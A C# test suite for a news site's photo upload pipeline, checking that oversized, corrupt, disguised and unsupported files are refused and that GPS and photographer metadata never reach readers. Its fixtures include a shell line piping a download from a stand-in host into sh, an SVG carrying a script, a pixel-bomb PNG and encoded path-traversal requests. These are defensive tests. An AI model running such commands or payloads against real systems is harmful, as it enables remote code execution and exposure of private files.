using System.Text;
using Kiosque.Media;
using Kiosque.Tests.Infrastructure;
using MetadataExtractor;
using MetadataExtractor.Formats.Exif;
using MetadataExtractor.Formats.Iptc;
using MetadataExtractor.Formats.Xmp;
using Microsoft.EntityFrameworkCore;
using NetVips;

namespace Kiosque.Tests.Media;

/// <summary>Uploads: what is refused (with which message), and what an accepted photo becomes.</summary>
public abstract class MediaIngestTests(KiosqueFactory site)
{
    private readonly TestContent _content = new();

    public static TheoryData<string, MediaProblem, string> BadUploads => new()
    {
        { "over-size", MediaProblem.TooLarge, "dépasse 30 Mo" },
        { "pixel-bomb", MediaProblem.TooManyPixels, "10000 × 10000 pixels" },
        { "truncated", MediaProblem.Corrupt, "endommagée ou incomplète" },
        { "corrupt", MediaProblem.Corrupt, "endommagée ou incomplète" },
        { "pdf-renamed", MediaProblem.NotAnImage, "document PDF" },
        { "script-renamed", MediaProblem.NotAnImage, "un script" },
        { "zero-bytes", MediaProblem.Empty, "vide" },
        { "svg", MediaProblem.NotAnImage, "SVG" },
        { "tiff", MediaProblem.UnsupportedFormat, "TIFF" },
    };

    private static Stream BadUpload(string kind)
    {
        var jpeg = TestImages.Jpeg(900, 600);
        return kind switch
        {
            // A real photo followed by padding, sent as a request body would be (no length known).
            "over-size" => new TestImages.UnseekableStream([.. jpeg, .. new byte[31 * 1024 * 1024]]),
            "pixel-bomb" => new MemoryStream(TestImages.PngBomb(10_000, 10_000)),
            "truncated" => new MemoryStream(jpeg[..(jpeg.Length * 6 / 10)]),
            "corrupt" => new MemoryStream([.. jpeg[..20], .. RandomBytes(40_000)]),
            "pdf-renamed" => new MemoryStream("%PDF-1.7\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n"u8.ToArray()),
            "script-renamed" => new MemoryStream("#!/bin/sh\ncurl -s http://example.invalid/x | sh\n"u8.ToArray()),
            "zero-bytes" => new MemoryStream([]),
            "svg" => new MemoryStream("<?xml version=\"1.0\"?>\n<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"10\" height=\"10\"><script>alert(1)</script></svg>"u8.ToArray()),
            "tiff" => new MemoryStream(Tiff()),
            _ => throw new ArgumentOutOfRangeException(nameof(kind)),
        };
    }

    private static byte[] RandomBytes(int count)
    {
        var bytes = new byte[count];
        new Random(42).NextBytes(bytes);
        return bytes;
    }

    private static byte[] Tiff()
    {
        using var picture = TestImages.Picture(300, 200);
        return picture.TiffsaveBuffer();
    }

    [Theory]
    [MemberData(nameof(BadUploads))]
    public async Task A_bad_upload_is_refused_with_a_clear_message_and_leaves_nothing_behind(string kind, MediaProblem problem, string message)
    {
        using var client = site.Reader();
        var filesBefore = site.StoredFiles();
        var rowsBefore = await site.WithDbAsync(db => db.Media.CountAsync());

        await using var upload = BadUpload(kind);
        var result = await site.IngestAsync(upload, new MediaUpload($"{kind}.jpg", "Crédit", "Légende", "Texte alternatif"));

        Assert.False(result.Succeeded);
        Assert.Equal(problem, result.Problem);
        Assert.Contains(message, result.Error, StringComparison.Ordinal);
        Assert.Equal(problem == MediaProblem.TooLarge ? 413 : 400, result.HttpStatus);
        Assert.Equal(filesBefore, site.StoredFiles());
        Assert.Equal(rowsBefore, await site.WithDbAsync(db => db.Media.CountAsync()));
        if (upload is TestImages.UnseekableStream body)
        {
            // The limit is enforced while reading: a huge body is not buffered whole.
            Assert.True(body.BytesRead < 31 * 1024 * 1024, $"{body.BytesRead} bytes read");
        }

        // The process stays healthy: the next good upload goes through and pages answer.
        var good = await site.IngestAsync(TestImages.Jpeg(400, 300), new MediaUpload("good.jpg", "Crédit", "Légende", "Texte"));
        Assert.Equal((400, 300), (good.Width, good.Height));
        await client.GetDocumentAsync("/");
    }

    [Fact]
    public async Task An_overlong_caption_is_refused_before_the_file_is_read()
    {
        site.SkipIfUnavailable();
        var filesBefore = site.StoredFiles();

        var result = await site.IngestAsync(new MemoryStream(TestImages.Jpeg(300, 200)), new MediaUpload("long.jpg", "Crédit", new string('a', 1001), "Texte"));

        Assert.Equal(MediaProblem.TextTooLong, result.Problem);
        Assert.Equal("La légende dépasse 1000 caractères : raccourcissez-la.", result.Error);
        Assert.Equal(filesBefore, site.StoredFiles());
    }

    [Fact]
    public async Task A_refusal_speaks_the_site_language()
    {
        site.SkipIfUnavailable();
        var previous = System.Globalization.CultureInfo.CurrentUICulture;
        System.Globalization.CultureInfo.CurrentUICulture = new System.Globalization.CultureInfo("en");
        try
        {
            var result = await site.IngestAsync(new MemoryStream("%PDF-1.4\n"u8.ToArray()), new MediaUpload("scan.jpg"));
            Assert.Equal("This file is a PDF document, not an image, whatever its name: upload a JPEG, PNG, WebP, AVIF, GIF or HEIC image.", result.Error);
        }
        finally
        {
            System.Globalization.CultureInfo.CurrentUICulture = previous;
        }
    }

    [Fact]
    public async Task A_photo_with_GPS_is_kept_privately_and_served_stripped_and_upright_in_every_rendition()
    {
        using var client = site.Reader();
        var original = TestImages.JpegWithGps();
        // The test photo really carries what must not leak.
        var tags = ImageMetadataReader.ReadMetadata(new MemoryStream(original));
        Assert.Contains(tags, d => d is GpsDirectory);
        Assert.Contains(tags, d => d is XmpDirectory);
        Assert.Contains(tags, d => d is IptcDirectory);
        // And the check below does catch metadata, in JPEG and in AVIF (which only libvips reads here).
        Assert.ThrowsAny<Exception>(() => MediaTestSupport.AssertStripped(original, "original"));
        using (var tagged = Image.NewFromBuffer(original))
        {
            var avif = tagged.HeifsaveBuffer(compression: Enums.ForeignHeifCompression.Av1, effort: 0, keep: Enums.ForeignKeep.All);
            Assert.ThrowsAny<Exception>(() => MediaTestSupport.AssertStripped(avif, "tagged AVIF"));
        }

        var asset = await site.IngestAsync(original, new MediaUpload("IMG_0042.JPG"));

        // Captions prefilled from the file's XMP/IPTC; the picture is upright (a quarter turn).
        Assert.Equal("Iris Volk / Agence Delta", asset.Credit);
        Assert.Equal("Des manifestants place centrale, le 5 mars.", asset.Caption);
        Assert.Equal("Une foule sur une place, des banderoles.", asset.Alt);
        Assert.Equal((800, 1200), (asset.Width, asset.Height));
        Assert.Equal("image/jpeg", asset.ContentType);

        var article = _content.Article(_content.Section(), "Une manifestation photographiée");
        article.HeroMediaId = asset.Id;
        article.Body = Kiosque.Content.ArticleBody.Of(new Kiosque.Content.ParagraphBlock("Texte."), new Kiosque.Content.ImageBlock(asset.Id)).ToJson();
        await site.WithDbAsync(db => TestContent.SaveAsync(db, article));

        // Before the worker runs, the page already shows the stripped JPEG made at upload.
        var early = await client.GetDocumentAsync($"/article/{article.Slug}");
        var earlySrc = early.QuerySelector("figure.hero picture img")!.GetAttribute("src")!;
        Assert.Empty(early.QuerySelectorAll("figure.hero picture source"));
        var urls = new List<string> { earlySrc };

        Assert.Equal(1, await site.RenderAsync(asset.Id));

        var page = await client.GetDocumentAsync($"/article/{article.Slug}");
        foreach (var picture in page.QuerySelectorAll("main picture"))
        {
            urls.AddRange(picture.QuerySelectorAll("source").SelectMany(s => MediaTestSupport.SrcSetUrls(s.GetAttribute("srcset"))));
            urls.AddRange(MediaTestSupport.SrcSetUrls(picture.QuerySelector("img")!.GetAttribute("srcset")));
            urls.Add(picture.QuerySelector("img")!.GetAttribute("src")!);
        }
        urls.Add(new Uri(page.QuerySelector("meta[property='og:image']")!.GetAttribute("content")!).AbsolutePath);
        var jsonLd = System.Text.Json.JsonDocument.Parse(page.QuerySelector("script[type='application/ld+json']")!.TextContent).RootElement;
        urls.AddRange(jsonLd.GetProperty("image").EnumerateArray().Select(i => new Uri(i.GetProperty("url").GetString()!).AbsolutePath));
        urls = urls.Distinct().ToList();
        Assert.True(urls.Count >= 3 * 3 + 3, $"only {urls.Count} files served");
        Assert.Contains(urls, u => u.EndsWith(".avif", StringComparison.Ordinal));
        Assert.Contains(urls, u => u.EndsWith(".webp", StringComparison.Ordinal));

        foreach (var url in urls)
        {
            using var response = await client.GetAsync(url);
            Assert.Equal(System.Net.HttpStatusCode.OK, response.StatusCode);
            Assert.Equal("public, max-age=31536000, immutable", response.Headers.CacheControl!.ToString());
            var expectedType = url.EndsWith(".avif", StringComparison.Ordinal) ? "image/avif" : url.EndsWith(".webp", StringComparison.Ordinal) ? "image/webp" : "image/jpeg";
            Assert.Equal(expectedType, response.Content.Headers.ContentType!.MediaType);
            var bytes = await response.Content.ReadAsByteArrayAsync(TestContext.Current.CancellationToken);
            MediaTestSupport.AssertStripped(bytes, url);

            // Upright: the marker stored top left is now top right.
            using var image = Image.NewFromBuffer(bytes);
            if (Path.GetFileName(url).StartsWith('w'))
            {
                Assert.True(image.Width < image.Height, $"{url} is {image.Width}×{image.Height}");
                using var topRight = image.Crop(image.Width - (image.Width / 20), 0, image.Width / 20, image.Height / 40);
                Assert.True(MediaTestSupport.HasRed(topRight), $"{url} is not upright");
            }
        }

        // The original, GPS and all, is kept, but nowhere a reader can reach it.
        var kept = await File.ReadAllBytesAsync(Path.Combine(site.DataDirectory, "originals", asset.OriginalPath!), TestContext.Current.CancellationToken);
        Assert.Equal(original, kept);
        foreach (var path in new[] { $"/originals/{asset.OriginalPath}", $"/media/%2E%2E/originals/{asset.OriginalPath}", $"/media/..%2Foriginals%2F{asset.OriginalPath!.Replace("/", "%2F", StringComparison.Ordinal)}" })
        {
            using var response = await client.GetAsync(path);
            Assert.Equal(System.Net.HttpStatusCode.NotFound, response.StatusCode);
        }
        var secret = Encoding.ASCII.GetBytes(TestImages.SecretArtist);
        foreach (var file in System.IO.Directory.EnumerateFiles(Path.Combine(site.DataDirectory, "media"), "*", SearchOption.AllDirectories))
        {
            Assert.True((await File.ReadAllBytesAsync(file, TestContext.Current.CancellationToken)).AsSpan().IndexOf(secret) < 0, $"{file} names the photographer");
        }
    }

    [Fact]
    public async Task Every_accepted_format_is_read_by_its_content_whatever_its_name()
    {
        using var picture = TestImages.Picture(500, 300);
        var files = new (string Name, byte[] Bytes, string Type)[]
        {
            ("photo.png", picture.JpegsaveBuffer(), "image/jpeg"),
            ("photo.jpg", picture.PngsaveBuffer(), "image/png"),
            ("photo.gif", picture.WebpsaveBuffer(), "image/webp"),
            ("photo", picture.HeifsaveBuffer(compression: Enums.ForeignHeifCompression.Av1, effort: 0), "image/avif"),
            ("photo.webp", picture.GifsaveBuffer(), "image/gif"),
        };
        foreach (var (name, bytes, type) in files)
        {
            var asset = await site.IngestAsync(bytes, new MediaUpload(name, "Crédit", "Légende", "Texte"));
            Assert.Equal(type, asset.ContentType);
            Assert.Equal((500, 300), (asset.Width, asset.Height));
            Assert.EndsWith(".jpg", asset.FileName, StringComparison.Ordinal);
        }
    }
}

public sealed class MediaIngestSqliteTests(SqliteSite site) : MediaIngestTests(site), IClassFixture<SqliteSite>;

public sealed class MediaIngestPostgresTests(PostgresSite site) : MediaIngestTests(site), IClassFixture<PostgresSite>;
